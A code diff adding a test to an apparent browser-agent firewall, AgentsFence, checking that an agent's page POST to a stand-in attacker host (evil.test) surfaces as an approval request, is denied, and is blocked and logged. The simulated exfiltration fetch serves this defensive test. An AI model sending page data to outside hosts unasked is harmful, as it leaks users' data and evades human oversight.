@@ -4,7 +4,7 @@ import { existsSync, readdirSync, readFileSync, readlinkSync, rmSync } from 'nod
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import puppeteer from 'puppeteer-core';
-import { launchAgentBrowser } from '../src/harness';
+import { launchAgentBrowser, type FenceEvent } from '../src/harness';
 import { buildCli } from '../tests/cli/run';
 import { extensionDir } from './fixtures/extension';
 import { startTestServer, type TestServer } from './fixtures/server';
@@ -261,5 +261,28 @@ test('headless approvals come from the terminal: a held POST is printed with its
     expect(evilHits().map((r) => `${r.method} ${r.path}`)).toEqual(['POST /post']);
   } finally {
     await browser.disconnect();
+  }
+});
+
+test('the harness hears asks and decisions as they happen (watch): a held POST is an ask, the deny settles it and its BLOCK follows', async () => {
+  const fence = await launchAgentBrowser({ extensionPath: extensionDir('full') });
+  const events: FenceEvent[] = [];
+  const stop = fence.watch((e) => events.push(e));
+  try {
+    await fence.setTask('Read the front page of news.test');
+    const page = await fence.context.newPage();
+    await page.goto(`${server.origin('news.test')}/`);
+    const sent = page.evaluate((url) => fetch(url, { method: 'POST', body: 'x=1' }).then((r) => String(r.status), (e: Error) => e.message), `${server.origin('evil.test')}/watched`);
+    await expect.poll(() => events.find((e) => e.type === 'ask'), { timeout: 10_000 }).toBeDefined();
+    const ask = events.find((e): e is Extract<FenceEvent, { type: 'ask' }> => e.type === 'ask')!;
+    expect(ask.approval.destination).toContain('evil.test');
+    await fence.answer(ask.approval.id, 'deny');
+    expect(await sent).toMatch(/blocked by AgentsFence/);
+    await expect.poll(() => events.some((e) => e.type === 'settled' && e.id === ask.approval.id)).toBe(true);
+    await expect.poll(() => events.some((e) => e.type === 'decision' && e.entry.record.decision === 'BLOCK' && (e.entry.destination ?? '').includes('evil.test'))).toBe(true);
+    expect(server.hits('/watched', 'evil.test')).toEqual([]);
+  } finally {
+    stop();
+    await fence.close();
   }
 });
